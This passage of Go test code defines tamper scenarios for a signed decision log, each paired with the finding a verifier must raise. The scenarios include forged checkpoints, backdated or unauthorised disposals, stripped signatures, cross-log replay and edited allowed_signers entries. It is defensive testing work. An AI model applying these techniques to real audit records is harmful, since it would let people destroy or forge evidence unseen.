		b := sc.second.closes(sc.lead.all[2])
		x.show(sc)
		x.look(sc, at(TrustDispute, a), at(AfterClosing, a), at(TrustDispute, b), at(AfterClosing, b)).noted(ClosedChain, NoCheckpoint)
	}},
	{name: "lead-admits-a-stranger", threat: "dishonest", done: "The lead admitted Max as somebody who works there.", make: func(x *exhibit) {
		sc := bareLog(x)
		sc.max.opens()
		sc.lead.admits(decider, sc.max)
		sc.max.decides()
		sc.lead.points()
		x.show(sc)
		x.look(sc).unseen(allTogether)
	}},
	{name: "lead-admits-another-key", threat: "dishonest", done: "The lead admitted Sam's chain with the fingerprint of another key.", make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.opens()
		sc.lead.founds("Fen partnership", sc.lead, sc.second)
		sc.sam.opens()
		a := sc.sam.admission(decider...)
		a.Fingerprint = sc.max.signer.Key().Fingerprint()
		f := sc.lead.trusts(decision.TrustAct{Admits: []decision.Admission{a}})
		x.show(sc)
		x.look(sc, at(BadAct, f), atChain(NotAdmitted, sc.sam)).noted(NoCheckpoint)
	}},
	{name: "lead-admits-another-address", threat: "dishonest", done: "The lead admitted Sam's chain under the address of somebody else.", make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.opens()
		sc.lead.founds("Fen partnership", sc.lead, sc.second)
		sc.sam.opens()
		a := sc.sam.admission(decider...)
		a.Principal = "head@fen.example"
		f := sc.lead.trusts(decision.TrustAct{Admits: []decision.Admission{a}})
		x.show(sc)
		x.look(sc, at(BadAct, f)).noted(NoCheckpoint)
	}},
	{name: "decider-admits", threat: "dishonest", done: "Sam, who only decides, admitted Max.", make: func(x *exhibit) {
		sc := bareLog(x).pointed()
		sc.max.opens()
		f := sc.sam.admits(decider, sc.max)
		x.show(sc)
		x.look(sc, at(NoAuthority, f), atChain(NotAdmitted, sc.max)).noted(NotCovered)
	}},
	{name: "decider-makes-a-checkpoint", threat: "dishonest", done: "Sam, who only decides, made a checkpoint.", make: func(x *exhibit) {
		sc := bareLog(x)
		f := sc.sam.points()
		x.show(sc)
		x.look(sc, at(NoAuthority, f)).noted(NoCheckpoint)
	}},

	// Overseers: checkpoints.
	{name: "checkpoint-leaves-a-record-out", threat: "dishonest", done: "A checkpoint goes on one number too late, so that Sam's number 2 is in none.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.sam.decides()
		sc.sam.decides()
		sc.lead.next[sc.sam.id] = 3
		f := sc.lead.points()
		x.show(sc)
		x.look(sc, at(BadCheckpoint, f)).noted(NotCovered)
	}},
	{name: "checkpoint-goes-back", threat: "dishonest", done: "A checkpoint begins again at number 0 of every chain, as if there had been none before.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.sam.decides()
		sc.lead.next = map[decision.ID]int{}
		sc.lead.leaves = newShelfLog(x).lead.leaves
		f := sc.lead.points()
		x.show(sc)
		x.look(sc, at(BadCheckpoint, f)).noted(NotCovered)
	}},
	{name: "checkpoint-with-another-root", threat: "dishonest", done: "A checkpoint has the ranges of this log, and the root of another.", make: func(x *exhibit) {
		sc := oneLog(x)
		f := sc.lead.pointsAs(func(_ *decision.CheckpointAct, c *decision.Cover) {
			size, root, _ := decision.ParseTree(c.Tree)
			root[0] ^= 1
			c.Tree = decision.TreeLine(size, root)
		})
		x.show(sc)
		x.look(sc, at(BadCheckpoint, f)).noted(NoCheckpoint)
	}},
	{name: "checkpoint-with-another-size", threat: "dishonest", done: "A checkpoint counts more records than it covers.", make: func(x *exhibit) {
		sc := oneLog(x)
		f := sc.lead.pointsAs(func(_ *decision.CheckpointAct, c *decision.Cover) {
			size, root, _ := decision.ParseTree(c.Tree)
			c.Tree = decision.TreeLine(2*size, root) // as many subtrees, each twice as large
		})
		x.show(sc)
		x.look(sc, at(BadCheckpoint, f)).noted(NoCheckpoint)
	}},
	{name: "checkpoint-with-another-edge", threat: "dishonest", done: "A checkpoint has an edge that does not lead to its root, so that nobody could go on from it.", make: func(x *exhibit) {
		sc := oneLog(x)
		f := sc.lead.pointsAs(func(a *decision.CheckpointAct, _ *decision.Cover) { a.Edge[0] = strings.Repeat("ab", 32) })
		x.show(sc)
		x.look(sc, at(BadCheckpoint, f)).noted(NoCheckpoint)
	}},
	{name: "checkpoint-of-another-record", threat: "dishonest", done: "A checkpoint covers a number 1 of Sam's that is not the one in the log.", make: func(x *exhibit) {
		sc := oneLog(x)
		was := sc.sam.all[1]
		other := sc.sam.instead(was)
		sc.sam.all[1] = other
		sc.lead.points()
		sc.remove(other)
		x.show(sc)
		x.look(sc, at(CoveredDiffers, was))
	}},
	{name: "checkpoint-of-numbers-that-never-were", threat: "dishonest", done: "A checkpoint covers Sam's chain up to number 9,999,999.", make: func(x *exhibit) {
		sc := oneLog(x)
		sc.lead.pointsAs(func(a *decision.CheckpointAct, c *decision.Cover) {
			i := slices.IndexFunc(a.Ranges, func(r decision.Range) bool { return r.Chain == sc.sam.id })
			a.Ranges[i].To, a.Ranges[i].Head = decision.MaxNumber, decision.ID{9}
			size := uint64(0)
			for _, r := range a.Ranges {
				size += uint64(r.To-r.From) + 1
			}
			edge, root := edgeOf(x, size)
			a.Edge, c.Tree = decision.EdgeText(edge), decision.TreeLine(size, root)
		})
		x.show(sc)
		x.look(sc, atNumber(CoveredMissing, sc.sam, 2, ""))
	}},
	{name: "checkpoint-of-a-chain-that-never-was", threat: "dishonest", done: "A checkpoint covers a chain that nobody began.", make: func(x *exhibit) {
		sc := oneLog(x)
		ghost := sc.scribe("nobody")
		ghost.opens()
		ghost.decides()
		sc.lead.points()
		sc.removeChain(ghost)
		x.show(sc)
		x.look(sc, atNumber(CoveredMissing, ghost, 0, ""))
	}},
	{name: "checkpoint-set-back", threat: "dishonest", done: "The lead gave a checkpoint a time hours before the records that it covers.", make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.opens()
		sc.lead.founds("Fen partnership", sc.lead, sc.second)
		sc.sam.opens()
		sc.lead.admits(decider, sc.sam)
		sc.later(5 * hour)
		a, b := sc.sam.decides(), sc.sam.decides()
		sc.lead.pointsAs(func(_ *decision.CheckpointAct, c *decision.Cover) { c.Time = shelfTime(10) })
		x.show(sc)
		x.look(sc, at(TimeOutside, a), at(TimeOutside, b))
	}},

	// Overseers: disposals.
	{name: "disposed-before-its-time", threat: "disposal", done: "The lead disposed of Sam's decision eight years before it was due, without saying why.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, atCover(DisposalUndue, sc.sam.all[1])).noted(NotCovered)
		x.blind(atCover(DisposalUndue, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "disposal-before-its-time-not-done", threat: "disposal", done: "The same, with the body still there.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		x.show(sc)
		x.look(sc, at(DisposalUndue, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "disposed-of-what-was-due-when-it-was-signed", threat: "disposal", done: "Sam signed a decision that was to be kept until the year before, and the lead disposed of it the same day.", make: func(x *exhibit) {
		sc := bareLog(x)
		f := sc.sam.decides(func(c *decision.Cover) { c.KeepUntil = "2025-02-05" })
		sc.lead.disposes(decision.DisposeAct{}, []*folio{f})
		sc.strip(f)
		x.show(sc)
		x.look(sc).noted(NoCheckpoint).unseen("How long a record is kept its author says, and signs; the cover shows it.")
	}},
	{name: "disposed-with-a-reason", threat: "disposal", done: "The same, with a reason. The reason may be a lie.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.lead.disposes(decision.DisposeAct{Override: "Recorded by mistake."}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc).noted(DisposedEarly, NotCovered).unseen(allTogether + " One overseer alone can do this: that two are needed is said by the disposal itself.")
	}},
	{name: "disposed-of-an-opening", threat: "disposal", done: "The lead disposed of the record that says whose chain Sam's is.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.lead.disposes(decision.DisposeAct{Override: "Left."}, sc.sam.all[:1])
		sc.strip(sc.sam.all[0])
		x.show(sc)
		x.look(sc, atCover(CoverOnly, sc.sam.all[0])).noted(NotCovered)
	}},
	{name: "disposed-of-an-act-of-oversight", threat: "disposal", done: "The lead disposed of a hold, so that what it held could be destroyed.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		hold := sc.second.holds(sc.sam.all[1])
		sc.lead.points()
		sc.later(due)
		sc.lead.disposes(decision.DisposeAct{Override: "Over."}, []*folio{hold})
		sc.strip(hold)
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, atCover(DisposalUndue, hold)).noted(DisposedEarly, NotCovered)
	}},
	{name: "disposed-while-held", threat: "disposal", done: "The second lead held Sam's decision; the lead disposed of it when it was due.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		sc.second.holds(sc.sam.all[1])
		sc.later(due)
		sc.lead.points()
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, atCover(DisposedWhileHeld, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "disposed-while-held-and-backdated", threat: "disposal", done: "The same; the lead gave the disposal a time before the hold, though the second lead's checkpoint, which covers the hold and the lead's chain, has no disposal.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		old := sc.lead.points()
		sc.later(due)
		sc.second.holds(sc.sam.all[1])
		sc.second.points()
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2], sees(old), claims(sc.minute-hour))
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, atCover(DisposedWhileHeld, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "hold-released-by-a-decider", threat: "disposal", done: "Sam released the hold, for which a decider has no authority, and the lead disposed of the decision.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		hold := sc.second.holds(sc.sam.all[1])
		sc.later(due)
		sc.lead.points()
		f := sc.sam.releases(hold)
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, at(NoAuthority, f), atCover(DisposedWhileHeld, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "hold-released-by-whoever-disposes", threat: "disposal", done: "The lead released the second lead's hold and disposed of the decision at once.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		hold := sc.second.holds(sc.sam.all[1])
		sc.later(due)
		sc.lead.points()
		sc.lead.releases(hold)
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc).noted(NotCovered).unseen(allTogether + " A release is not listed; whoever disposes may have made it.")
	}},
	{name: "hold-released-after-the-disposal", threat: "disposal", done: "The lead disposed of a decision that the second lead held, and released the hold in the next record, so that nothing seems to stand in the way.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		hold := sc.second.holds(sc.sam.all[1])
		sc.later(due)
		sc.lead.points()
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		sc.lead.releases(hold)
		x.show(sc)
		x.look(sc, atCover(DisposedWhileHeld, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "hold-stripped", threat: "disposal", done: "Somebody cut the body off the hold, and the lead disposed of the decision.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		hold := sc.second.holds(sc.sam.all[1])
		sc.later(due)
		sc.lead.points()
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1], hold)
		x.show(sc)
		x.look(sc, atCover(CoverOnly, hold)).noted(NotCovered)
	}},
	{name: "disposed-by-a-decider", threat: "disposal", done: "Sam, who only decides, disposed of a decision.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		f := sc.sam.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, at(NoAuthority, f), atCover(CoverOnly, sc.sam.all[1])).noted(NotCovered)
		x.blind().noted(AuthorityNotConfirmed, NotCovered).unseen("Without the log's id nobody knows who may dispose of anything.")
	}},
	{name: "disposed-by-one-of-two", threat: "disposal", done: "The lead asked for a second overseer's word, and destroyed the body before there was one.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		sc.lead.disposes(decision.DisposeAct{Two: true}, sc.sam.all[1:2])
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, atCover(DisposalUnconfirmed, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "disposal-confirmed-with-the-same-key", threat: "disposal", done: "The lead confirmed the own disposal.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		first := sc.lead.disposes(decision.DisposeAct{Two: true}, sc.sam.all[1:2])
		second := sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2], about(first))
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, at(BadAct, second), atCover(DisposalUnconfirmed, sc.sam.all[1])).noted(NotCovered)
	}},
	{name: "disposal-confirmed-in-part", threat: "disposal", done: "The second lead confirmed the disposal of one record of two, and both were destroyed.", make: func(x *exhibit) {
		sc := pairLog(x).joined()
		sc.later(due)
		first := sc.lead.disposes(decision.DisposeAct{Two: true}, sc.sam.all[1:3])
		second := sc.second.disposes(decision.DisposeAct{}, sc.sam.all[1:2], about(first))
		sc.strip(sc.sam.all[1:3]...)
		x.show(sc)
		x.look(sc, at(BadAct, second), atCover(DisposalUnconfirmed, sc.sam.all[1]), atCover(DisposalUnconfirmed, sc.sam.all[2])).noted(NoCheckpoint)
	}},
	{name: "disposal-confirmed-with-the-same-persons-other-key", threat: "disposal", done: "The lead admitted a second key of the own as an overseer, and confirmed the disposal with it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		sc.alex.opens() // in truth the lead's other computer
		sc.lead.admits(overseer, sc.alex)
		first := sc.lead.disposes(decision.DisposeAct{Two: true}, sc.sam.all[1:2])
		sc.alex.disposes(decision.DisposeAct{}, sc.sam.all[1:2], about(first))
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc).noted(NotCovered).unseen("Two keys are asked for, and two keys can be one person's; the trust record shows who admitted the second.")
	}},
	{name: "disposed-by-all-overseers-together", threat: "dishonest", done: "Both leads agreed to destroy a decision that harms them.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		first := sc.lead.disposes(decision.DisposeAct{Two: true, Override: "By mistake."}, sc.sam.all[1:2])
		sc.second.disposes(decision.DisposeAct{Override: "By mistake."}, sc.sam.all[1:2], about(first))
		sc.strip(sc.sam.all[1])
		sc.lead.points()
		sc.second.points()
		x.show(sc)
		x.look(sc).noted(DisposedEarly).unseen("If all overseers act together they can dispose of what they like; covers and disposals show it, and what the bodies said is gone.")
	}},
	{name: "disposal-postdated", threat: "disposal", done: "In 2026 the lead gave a disposal a time in 2034, when it would be due; the second lead then made a checkpoint.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		f := sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2], claims(due))
		sc.strip(sc.sam.all[1])
		sc.second.points()
		x.show(sc)
		x.look(sc, at(TimeOutside, f))
	}},
	{name: "disposal-postdated-before-any-checkpoint", threat: "disposal", done: "The same, before anybody made a checkpoint.", make: func(x *exhibit) {
		sc := oneLog(x).joined()
		sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2], claims(due))
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc).noted(NoCheckpoint).unseen(oneInterval + " Whoever reads the list of disposals in 2026 sees one of 2034.")
	}},
	{name: "disposed-of-what-is-elsewhere", threat: "disposal", done: "The lead disposed of a record of another log's chain.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		sc.lead.disposes(decision.DisposeAct{Records: []decision.Place{{Chain: decision.ID{1}, Number: 4, ID: decision.ID{2}}}}, nil)
		x.show(sc)
		x.look(sc).noted(AboutElsewhere, NotCovered)
	}},
	{name: "disposed-of-what-never-was", threat: "disposal", done: "The lead disposed of Sam's numbers 1 and 9, naming records that do not exist.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		f := sc.lead.disposes(decision.DisposeAct{Records: []decision.Place{{Chain: sc.sam.id, Number: 1, ID: decision.ID{2}}, {Chain: sc.sam.id, Number: 9, ID: decision.ID{9}}}}, nil)
		x.show(sc)
		x.look(sc, at(BadAct, f), at(AboutMissing, f)).noted(NotCovered)
	}},
	{name: "body-stripped", threat: "disposal", done: "Somebody cut the body off a decision; nobody had disposed of it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.strip(sc.sam.all[1])
		x.show(sc)
		x.look(sc, atCover(CoverOnly, sc.sam.all[1]))
		x.blind(atCover(CoverOnly, sc.sam.all[1]))
	}},
	{name: "disposal-not-begun", threat: "disposal", done: "A disposal was recorded, and the body is still there.", make: func(x *exhibit) {
		sc := disposedLog(x)
		sc.sam.all[1].lay()
		delete(sc.files, sc.sam.all[1].coverPath())
		x.show(sc)
		x.look(sc, at(Unfinished, sc.sam.all[1]))
	}},
	{name: "disposal-interrupted", threat: "disposal", done: "The same, stopped after the cover was written: or the body was put back from a copy.", make: func(x *exhibit) {
		sc := disposedLog(x)
		sc.sam.all[1].lay()
		x.show(sc)
		x.look(sc, at(Unfinished, sc.sam.all[1]))
		x.blind(at(Unfinished, sc.sam.all[1]))
	}},
	{name: "disposed-cover-removed", threat: "disposal", done: "After a disposal the cover was deleted too.", make: func(x *exhibit) {
		sc := disposedLog(x)
		delete(sc.files, sc.sam.all[1].coverPath())
		x.show(sc)
		x.look(sc, at(Missing, sc.sam.all[1]))
	}},
	{name: "disposed-cover-replaced", threat: "disposal", done: "After a disposal another record's cover was put under the name of this one.", make: func(x *exhibit) {
		sc := disposedLog(x)
		cover, signature, _ := sc.sam.all[2].parts()
		sc.files[sc.sam.all[1].coverPath()] = slices.Concat(cover, signature)
		x.show(sc)
		x.look(sc, atCover(WrongName, sc.sam.all[1]))
	}},
	{name: "disposed-cover-changed", threat: "disposal", done: "After a disposal the day on the cover was changed.", make: func(x *exhibit) {
		sc := disposedLog(x)
		name := sc.sam.all[1].coverPath()
		sc.files[name] = bytes.Replace(sc.files[name], []byte("keep-until 2034"), []byte("keep-until 2024"), 1)
		x.show(sc)
		x.look(sc, atCover(ChangedCover, sc.sam.all[1]))
	}},
	{name: "disposed-cover-with-a-body", threat: "disposal", done: "After a disposal the body was put back behind the cover, in the same file.", make: func(x *exhibit) {
		sc := disposedLog(x)
		sc.files[sc.sam.all[1].coverPath()] = sc.sam.all[1].data
		x.show(sc)
		x.look(sc, atCover(ChangedBody, sc.sam.all[1]))
	}},
	{name: "covers-only-copy", threat: "disposal", done: "A copy without the bodies of decisions, for a witness. Nothing is wrong here, if the reader knows what it is.", make: func(x *exhibit) {
		sc := coveredLog(x)
		sc.strip(sc.sam.all[1:]...)
		x.show(sc)
		x.look(sc).Covers = true
		x.look(sc, atCover(CoverOnly, sc.sam.all[1]), atCover(CoverOnly, sc.sam.all[2]))
	}},
	{name: "covers-only-copy-without-its-closing", threat: "disposal", done: "In a copy without bodies the closing of a stolen key lost its body as well, so that what the thief signed seems to count.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		closing := sc.lead.closes(sc.sam.all[1])
		f := sc.sam.decides()
		sc.lead.points()
		sc.strip(closing, f)
		sc.strip(sc.sam.all[1:2]...)
		x.show(sc)
		x.look(sc, atCover(CoverOnly, closing)).Covers = true
	}},
	{name: "covers-only-copy-without-an-opening", threat: "disposal", done: "In a copy without bodies the opening of Sam's chain lost its body as well.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.strip(sc.sam.all...)
		x.show(sc)
		x.look(sc, atCover(CoverOnly, sc.sam.all[0])).Covers = true
	}},

	// Guessing.
	{name: "disposed-body-guessed", threat: "guess", done: "After a disposal somebody put a guess at the body in its place: the right words, without the salt.", make: func(x *exhibit) {
		sc := disposedLog(x)
		f := sc.sam.all[1]
		_, _, text := f.parts()
		with, _, _ := strings.Cut(strings.SplitAfter(string(text), `"salt": "`)[1], `"`)
		sc.files[f.path] = bytes.Replace(f.data, []byte(with), []byte(strings.Repeat("0", 32)), 1)
		x.show(sc)
		x.look(sc, at(ChangedBody, f))
	}},

	// "I never signed that."
	{name: "key-that-anyone-can-sign-with", threat: "denial", done: "Alex's chain has a public key with which one and the same signature fits every text, so that anybody can add to the chain and Alex can deny all of it.", make: func(x *exhibit) {
		sc := oneLog(x)
		sc.alex.signer = anyones{}
		a := sc.alex.opens()
		sc.lead.admits(decider, sc.alex)
		b := sc.alex.decides()
		sc.lead.points()
		x.show(sc)
		x.look(sc, at(BadSignature, a), at(BadSignature, b))
	}},
	{name: "endorsed-by-oneself", threat: "denial", done: "Sam endorsed the own decision.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := sc.sam.endorses(sc.sam.all[1])
		x.show(sc)
		x.look(sc, at(SelfEndorsed, f)).noted(NotCovered)
		x.blind(at(SelfEndorsed, f)).noted(NotCovered)
	}},
	{name: "endorsed-another-record-than-it-says", threat: "denial", done: "The cover of an endorsement names one decision, and its body another.", make: func(x *exhibit) {
		sc := pairLog(x).staffed().pointed()
		f := sc.alex.endorses(sc.sam.all[1], about(sc.sam.all[2]))
		x.show(sc)
		x.look(sc, at(WrongAbout, f)).noted(NotCovered)
	}},
	{name: "opened-in-another-persons-name", threat: "denial", done: "Max opened a chain with Sam's name and address.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		o := sc.sam.opening()
		o.Key, o.Fingerprint = sc.max.signer.Key().AuthorizedKey(), sc.max.signer.Key().Fingerprint()
		sc.max.write(decision.Open, o)
		x.show(sc)
		x.look(sc, atChain(NotAdmitted, sc.max))
		x.blind().noted(NotCovered).unseen("An opening is a claim; without the log's id nobody confirms it.")
	}},
	{name: "shared-computer", threat: "denial", done: "A colleague sat down at Sam's computer and decided.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.sam.decides()
		sc.lead.points()
		x.show(sc)
		x.look(sc).unseen(whoKnows)
	}},

	// Another log, another role.
	{name: "chain-of-another-log", threat: "replay", done: "Sam's chain, which one log admits, was copied into another.", make: func(x *exhibit) {
		sc, other := oneLog(x).pointed(), newShelfLog(x)
		other.max.opens()
		other.max.founds("Marsh partnership", other.max, other.alex)
		maps.Copy(other.files, sc.only(sc.sam))
		x.show(other)
		x.look(other, atChain(NotAdmitted, sc.sam)).noted(NoCheckpoint)
	}},
	{name: "trust-record-of-another-log", threat: "replay", done: "The lead oversees two logs; what admits Max to the other lies here as well, in the lead's chain.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.max.opens()
		sc.lead.trusts(decision.TrustAct{Log: decision.ID{5}, Admits: []decision.Admission{sc.max.admission(decider...)}})
		sc.lead.points()
		x.show(sc)
		x.look(sc, atChain(NotAdmitted, sc.max))
	}},
	{name: "decision-signed-as-oversight", threat: "replay", done: "Sam signed a decision in the role of an overseer.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := resigned(sc.sam, sshsig.Oversight, sc.sam.drafts()).lay()
		x.show(sc)
		x.look(sc, at(BadSignature, f))
	}},
	{name: "act-signed-as-decision", threat: "replay", done: "The lead signed a hold in the role of somebody who decides.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := resigned(sc.lead, sshsig.Decision, sc.lead.draft(len(sc.lead.all), decision.Hold, sc.lead.holding(sc.sam.all[1]))).lay()
		x.show(sc)
		x.look(sc, at(BadSignature, f))
	}},
	{name: "act-signed-as-exercise", threat: "replay", done: "The lead signed a hold in the role of an exercise.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := resigned(sc.lead, sshsig.Training, sc.lead.draft(len(sc.lead.all), decision.Hold, sc.lead.holding(sc.sam.all[1]))).lay()
		x.show(sc)
		x.look(sc, at(WrongRole, f))
	}},
	{name: "exercise-in-a-live-chain", threat: "replay", done: "Sam signed a decision in the role of an exercise.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := resigned(sc.sam, sshsig.Training, sc.sam.drafts()).lay()
		x.show(sc)
		x.look(sc, at(WrongRole, f))
	}},
	{name: "exercises-among-live-chains", threat: "replay", done: "A chain of exercises was moved in among decisions, and the lead admitted it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.alex.role = sshsig.Training
		sc.alex.opens()
		f := sc.lead.admits(decider, sc.alex)
		x.show(sc)
		x.look(sc, atChain(TrainingAmongLive, sc.alex), at(BadAct, f)).noted(NotCovered)
	}},
	{name: "admitted-in-an-exercise", threat: "replay", done: "The lead's exercises, with a trust record that admits Max, were moved in among decisions.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		exercises := *sc.scribe("Robin Learning")
		exercises.role = sshsig.Training
		exercises.opens()
		sc.max.opens()
		exercises.admits(overseer, sc.max)
		x.show(sc)
		x.look(sc, atChain(TrainingAmongLive, &exercises), atChain(NotAdmitted, sc.max))
	}},
	{name: "founded-in-an-exercise", threat: "replay", done: "The id of a log is that of a founding record in a chain of exercises.", make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.role = sshsig.Training
		sc.lead.opens()
		sc.lead.founds("Fen partnership", sc.lead, sc.second)
		x.show(sc)
		x.look(sc, shelfRow{Code: string(NoFounding), Number: -1})
	}},
	proofAttack("proof-untouched", "Nothing. A proof that Sam's decision stood under a checkpoint.", nil),
	proofAttack("proof-with-another-hash", "A hash on the way to the root was changed.", func(_ *shelfLog, p *Proof) { p.Path[0][0] ^= 1 }),
	proofAttack("proof-with-another-leaf", "The leaf was said to be the next one.", func(_ *shelfLog, p *Proof) { p.Index++ }),
	proofAttack("proof-with-a-hash-more", "A hash was added to the way.", func(_ *shelfLog, p *Proof) { p.Path = append(p.Path, decision.ID{1}) }),
	proofAttack("proof-of-another-record", "The record was exchanged for another one of Sam's.", func(sc *shelfLog, p *Proof) { p.Record = sc.sam.proofPage(sc.sam.all[1]) }),
	proofAttack("proof-with-another-checkpoint", "The checkpoint was exchanged for an earlier one of the same lead.", func(sc *shelfLog, p *Proof) {
		p.Point = sc.sam.proofPage(sc.lead.all[3])
		p.Point.Body = nil
	}),
	proofAttack("proof-without-the-body", "The body was cut off.", func(_ *shelfLog, p *Proof) { p.Record.Body = nil }),
	proofAttack("proof-of-another-log", "The proof was said to be of another log.", func(_ *shelfLog, p *Proof) { p.Log = decision.ID{8} }),

	// Signatures.
	{name: "signature-stripped", threat: "signature", done: "The signature was cut out of a decision.",
		make: damaged(NoSignature, func(sc *shelfLog) {
			cover, _, text := sc.sam.all[1].parts()
			sc.files[sc.sam.all[1].path] = slices.Concat(cover, text)
		})},
	{name: "signature-of-another-record", threat: "signature", done: "A decision was given the signature of another one by the same author.",
		make: damaged(BadSignature, func(sc *shelfLog) {
			cover, _, text := sc.sam.all[1].parts()
			_, signature, _ := sc.sam.all[2].parts()
			sc.files[sc.sam.all[1].path] = slices.Concat(cover, signature, text)
		})},
	{name: "signature-of-another-key", threat: "signature", done: "Max signed Sam's decision, word for word.",
		make: damaged(WrongKey, func(sc *shelfLog) {
			f := sc.sam.all[1]
			_, _, text := f.parts()
			sc.files[f.path] = sc.sam.sign(sc.max.signer, sshsig.Decision, f.cover, text).data
		})},
	{name: "opening-signed-with-another-key", threat: "signature", done: "Max signed the opening of Sam's chain, word for word.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := sc.sam.all[0]
		_, _, text := f.parts()
		sc.files[f.path] = sc.sam.sign(sc.max.signer, sshsig.Decision, f.cover, text).data
		x.show(sc)
		x.look(sc, at(BadOpening, f))
	}},

	// What lies beside the records.
	{name: "signers-line-added", threat: "signers", done: "A line for Max was added to allowed_signers.", make: func(x *exhibit) {
		sc := signersLog(x, func(lines []string) []string {
			return append(lines, `max.stone@fen.example namespaces="dsa-decision,dsa-oversight" `+newShelfLog(x).max.signer.Key().AuthorizedKey())
		})
		x.show(sc)
		x.look(sc).noted(UnknownSigner).unseen("Who checks by hand with that file alone.")
	}},
	{name: "signers-key-exchanged", threat: "signers", done: "In allowed_signers, Sam's line was given Max's key.", make: func(x *exhibit) {
		sc := signersLog(x, func(lines []string) []string {
			fields := strings.Fields(lines[1])
			lines[1] = fields[0] + " " + fields[1] + " " + newShelfLog(x).max.signer.Key().AuthorizedKey()
			return lines
		})
		x.show(sc)
		x.look(sc).noted(UnknownSigner).unseen("Who checks by hand with that file alone.")
	}},
	{name: "signers-role-added", threat: "signers", done: "In allowed_signers, Sam was allowed to sign acts of oversight.", make: func(x *exhibit) {
		sc := signersLog(x, func(lines []string) []string {
			lines[1] = strings.Replace(lines[1], "dsa-decision", "dsa-decision,dsa-oversight", 1)
			return lines
		})
		x.show(sc)
		x.look(sc).noted(UnknownSigner).unseen("Who checks by hand with that file alone.")
	}},
	{name: "signers-option-added", threat: "signers", done: "In allowed_signers, Sam's key was made an authority that can certify other keys.", make: func(x *exhibit) {
		sc := signersLog(x, func(lines []string) []string {
			lines[1] = strings.Replace(lines[1], `"dsa-decision"`, `"dsa-decision",valid-before="20990101Z",cert-authority,valid-after="20000101Z"`, 1)
			return lines
		})
		x.show(sc)
		x.look(sc).noted(UnknownSigner).unseen("Who checks by hand with that file alone.")
	}},
	{name: "signers-closing-taken-away", threat: "signers", done: "In allowed_signers, the day on which Sam's chain was closed was taken out.", make: func(x *exhibit) {
